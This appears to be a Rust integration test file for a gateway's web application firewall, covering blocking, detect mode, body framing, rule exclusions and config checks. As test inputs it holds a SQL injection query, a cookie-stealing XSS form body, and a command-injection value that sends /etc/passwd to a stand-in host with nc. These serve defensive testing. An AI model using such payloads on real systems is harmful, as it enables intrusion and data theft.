@@ -1,0 +1,213 @@
+//! The WAF in the way of real requests: what it blocks, what it only tells, what it holds back and what it lets through unharmed.
+
+use crate::support::{
+    client::{Client, Response},
+    eventually,
+    gateway::{Gateway, run_in},
+    origin::{Origin, Seen},
+};
+use serde_json::Value;
+
+async fn edge(origin: &Origin, objects: &str, rest: &str) -> Gateway {
+    edge_with(origin, &[], objects, rest).await
+}
+
+async fn edge_with(origin: &Origin, files: &[(&str, &str)], objects: &str, rest: &str) -> Gateway {
+    let folder = tempfile::tempdir().unwrap();
+    for (name, text) in files {
+        std::fs::write(folder.path().join(name), text).unwrap();
+    }
+    let config = format!(
+        "[telemetry]\naudit_log = {{ to = {{ file = \"audit.log\" }} }}\n[listener.http]\naddress = \"127.0.0.1:0\"\n{objects}\n\
+         [upstream.app]\nendpoints = [\"{}\"]\n[route.app]\nupstream = \"app\"\n{rest}\n",
+        origin.addr
+    );
+    Gateway::start_in(folder, &config).await
+}
+
+async fn ask(gateway: &Gateway, request: impl AsRef<[u8]>) -> Response {
+    let mut client = Client::connect(gateway.addr("http")).await;
+    client.send(request).await;
+    client.response().await
+}
+
+fn get(target: &str) -> String {
+    format!("GET {target} HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n")
+}
+
+fn post(kind: &str, body: &[u8]) -> Vec<u8> {
+    let head = format!(
+        "POST /form HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n",
+        body.len()
+    );
+    [head.as_bytes(), body].concat()
+}
+
+/// Lines of the audit log.
+async fn audits(gateway: &Gateway, count: usize) -> Vec<Value> {
+    eventually("audit lines", async || {
+        let text = std::fs::read_to_string(gateway.path().join("audit.log")).unwrap_or_default();
+        let lines: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+        (lines.len() >= count).then_some(lines)
+    })
+    .await
+}
+
+const ATTACK: &str = "/?q=1%27%20UNION%20SELECT%20password%20FROM%20users--";
+const FORM: &str = "application/x-www-form-urlencoded";
+
+#[tokio::test]
+async fn our_own_rules_block_attacks_and_tell_why() {
+    let origin = Origin::echo().await;
+    let gateway = edge(&origin, "", "waf.mode = \"block\"").await;
+    assert_eq!(ask(&gateway, get("/products?id=17&q=red+shoes")).await.status, 200);
+    let blocked = ask(&gateway, get(ATTACK)).await;
+    assert_eq!((blocked.status, blocked.text().as_str()), (403, "Forbidden\n"));
+    let form = b"name=x&comment=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E";
+    assert_eq!(ask(&gateway, post(FORM, form)).await.status, 403);
+    assert_eq!(
+        ask(&gateway, post("application/json", br#"{"a":"; cat /etc/passwd | nc evil.test 1"}"#)).await.status,
+        403
+    );
+    assert_eq!(ask(&gateway, post(FORM, b"name=Ada&comment=what+a+day")).await.status, 200);
+    assert_eq!(origin.last().body, b"name=Ada&comment=what+a+day");
+    assert!(origin.requests().iter().all(|seen| seen.body.is_empty() || !seen.body.contains(&b'<')), "held back");
+    let lines = audits(&gateway, 3).await;
+    assert_eq!(lines[0]["outcome"], "blocked");
+    assert_eq!(lines[0]["route"], "app");
+    let rule = &lines[0]["audit"]["matches"][0];
+    assert!(rule["id"].as_u64().is_some_and(|id| (100_000..191_000).contains(&id)), "{rule}");
+    assert!(rule["findings"][0]["variable"].as_str().unwrap().ends_with("ARGS:q"), "{rule}");
+    gateway.counts("portcullis_waf_transactions_total", &["waf=\"builtin\"", "outcome=\"blocked\""], 3.0).await;
+    gateway.counts("portcullis_refusals_total", &["reason=\"waf\""], 3.0).await;
+}
+
+#[tokio::test]
+async fn detecting_refuses_nothing_and_levels_add_up() {
+    let origin = Origin::fixed("ok").await;
+    let rest = "[route.app.rule.strict]\npath = \"/strict\"\nwaf.mode = \"block\"\n[route.app.rule.off]\npath = \"/off\"\nrelax = [\"waf\"]\nwaf.mode = \"off\"\n";
+    let objects = "[defaults]\nwaf.mode = \"detect\"\nmay_relax = [\"waf\"]\n";
+    let gateway = edge(&origin, objects, rest).await;
+    assert_eq!(ask(&gateway, get(ATTACK)).await.status, 200);
+    assert_eq!(ask(&gateway, get(&format!("/off{}", &ATTACK[1..]))).await.status, 200);
+    assert_eq!(ask(&gateway, get(&format!("/strict{}", &ATTACK[1..]))).await.status, 403);
+    let lines = audits(&gateway, 2).await;
+    assert_eq!(lines.len(), 2, "off sees nothing");
+    assert_eq!((&lines[0]["outcome"], &lines[1]["outcome"]), (&"matched".into(), &"blocked".into()));
+}
+
+#[tokio::test]
+async fn bodies_of_every_size_and_framing_arrive_as_they_were_sent() {
+    let origin = Origin::echo().await;
+    let gateway = edge(&origin, "", "waf.mode = \"block\"").await;
+    // Beyond 128 KiB the rest is not looked at, and all of it still arrives.
+    for length in [1, 1_000, 65_535, 65_536, 65_537, 131_072, 131_073, 200_000, 2_000_000, 5_000_000] {
+        let body: Vec<u8> = (0..length).map(|n| b"abcdefghijklmnop"[n % 16]).collect();
+        let response = ask(&gateway, post("text/plain", &body)).await;
+        assert_eq!(response.status, 200, "{length}");
+        assert!(origin.last().body == body, "{length} octets, {} arrived", origin.last().body.len());
+        let mut chunked = b"POST /x HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
+        for chunk in body.chunks(70_001) {
+            chunked.extend(format!("{:x}\r\n", chunk.len()).bytes());
+            chunked.extend(chunk);
+            chunked.extend(b"\r\n");
+        }
+        chunked.extend(b"0\r\n\r\n");
+        assert_eq!(ask(&gateway, &chunked).await.status, 200, "{length} in chunks");
+        assert!(origin.last().body == body, "{length} in chunks, {} arrived", origin.last().body.len());
+    }
+    let mut client = Client::connect(gateway.addr("http")).await;
+    client.send("POST /x HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 7\r\nExpect: 100-continue\r\n\r\n").await;
+    client.send("a=hello").await;
+    assert_eq!(client.response().await.status, 200);
+    assert_eq!(origin.last().body, b"a=hello");
+}
+
+#[tokio::test]
+async fn a_body_goes_whole_to_the_next_endpoint_when_the_first_is_dead() {
+    let origin = Origin::echo().await;
+    let config = format!(
+        "[listener.http]\naddress = \"127.0.0.1:0\"\n[upstream.app]\nendpoints = [\"127.0.0.1:1\", {{ address = \"{}\", priority = 1 }}]\n\
+         [route.app]\nupstream = \"app\"\nwaf.mode = \"block\"\n",
+        origin.addr
+    );
+    let gateway = Gateway::start(&config).await;
+    for length in [10, 60_000] {
+        let body = vec![b'x'; length];
+        assert_eq!(ask(&gateway, post("text/plain", &body)).await.status, 200, "{length}");
+        assert!(origin.last().body == body, "{length}");
+    }
+}
+
+#[tokio::test]
+async fn leaks_in_responses_are_withheld() {
+    let origin = Origin::start(|seen: &Seen| {
+        let body = match seen.path() {
+            "/leak" => "<html>Fatal error: Uncaught PDOException: SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax in /var/www/app/db.php:17\nStack trace:\n#0 /var/www/app/index.php(12): PDO-&gt;query()</html>",
+            _ => "<html>hello</html>",
+        };
+        format!("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{body}", body.len()).into_bytes()
+    })
+    .await;
+    let gateway = edge(&origin, "", "waf.mode = \"block\"").await;
+    assert_eq!(ask(&gateway, get("/fine")).await.text(), "<html>hello</html>");
+    let mut client = Client::connect(gateway.addr("http")).await;
+    client.send(get("/leak")).await;
+    let answer = client.try_response(false).await;
+    assert!(answer.is_none_or(|answer| !answer.text().contains("PDOException")), "nothing of it is seen");
+}
+
+#[tokio::test]
+async fn exclusions_thresholds_and_rules_of_ones_own() {
+    let origin = Origin::fixed("ok").await;
+    let own = "SecRule ARGS:colour \"@streq mauve\" \"id:1001,phase:1,deny,status:406,log,msg:'no mauve'\"\n";
+    let objects = "[waf.site]\nrules = [\"builtin\"]\ninclude = [\"own.conf\"]\n";
+    let mauve = get("/?colour=mauve");
+    for (waf, request, status) in [
+        ("", get(ATTACK), 200),
+        ("waf.mode = \"block\"", get(ATTACK), 403),
+        ("waf.mode = \"block\"", mauve.clone(), 406),
+        ("waf = { mode = \"block\", exclude = [1001] }", mauve.clone(), 200),
+        ("waf = { mode = \"block\", exclude = [{ rule = \"1001\", path = \"/other\" }] }", mauve.clone(), 406),
+        (
+            "waf = { mode = \"block\", exclude = [{ rule = \"1001\", methods = [\"GET\"], reason = \"legacy\" }] }",
+            mauve.clone(),
+            200,
+        ),
+        ("waf = { mode = \"block\", exclude = [{ rule = \"1001\", expires = \"2020-01-01\" }] }", mauve.clone(), 406),
+        ("waf = { mode = \"block\", exclude = [{ rule = \"100000-199999\", target = \"ARGS:q\" }] }", get(ATTACK), 200),
+        ("waf = { mode = \"block\", score = { inbound = 1000 } }", get(ATTACK), 200),
+        ("waf = { mode = \"block\", profile = \"builtin\" }", mauve, 200),
+    ] {
+        let gateway = edge_with(&origin, &[("own.conf", own)], objects, waf).await;
+        assert_eq!(ask(&gateway, request).await.status, status, "{waf}");
+    }
+}
+
+#[tokio::test]
+async fn rules_that_cannot_be_run_are_refused_with_their_place() {
+    let folder = tempfile::tempdir().unwrap();
+    std::fs::write(
+        folder.path().join("bad.conf"),
+        "SecRule ARGS \"@rx x\" \"id:1,phase:2,deny\"\nSecRule ARGZ \"@rx x\" \"id:2,phase:2\"\n",
+    )
+    .unwrap();
+    for (text, message) in [
+        ("[waf.site]\nrules = [\"bad.conf\"]\n", "bad.conf:2"),
+        ("[waf.site]\nrules = [\"none.conf\"]\n", "none.conf"),
+        ("[waf.site]\nbody = \"1GiB\"\n", "16MiB"),
+        ("[defaults]\nwaf.profile = \"sight\"\n[waf.site]\n", "waf \"sight\" is not defined (defined: builtin, site)"),
+        ("[defaults]\nwaf.paranoia = 5\n", "4"),
+        ("[defaults]\nwaf.exclude = [{ target = \"ARGS\" }]\n", "by `rule` or by `tag`"),
+        ("[defaults]\nwaf.exclude = [{ rule = \"1\", expires = \"soon\" }]\n", "is not a day"),
+        (
+            "[defaults]\nwaf.mode = \"block\"\n[route.x]\npath = \"/x\"\nupstream = \"app\"\nwaf.mode = \"off\"\n",
+            "a level above is stricter",
+        ),
+    ] {
+        let base = "[listener.http]\naddress = \"127.0.0.1:0\"\n[upstream.app]\nendpoints = [\"127.0.0.1:1\"]\n[route.app]\nupstream = \"app\"\n";
+        std::fs::write(folder.path().join("edge.toml"), format!("{base}{text}")).unwrap();
+        let (code, out) = run_in(folder.path(), &["check", "edge.toml"]).await;
+        assert!(code == 1 && out.contains(message), "{message}\n{out}");
+    }
+}
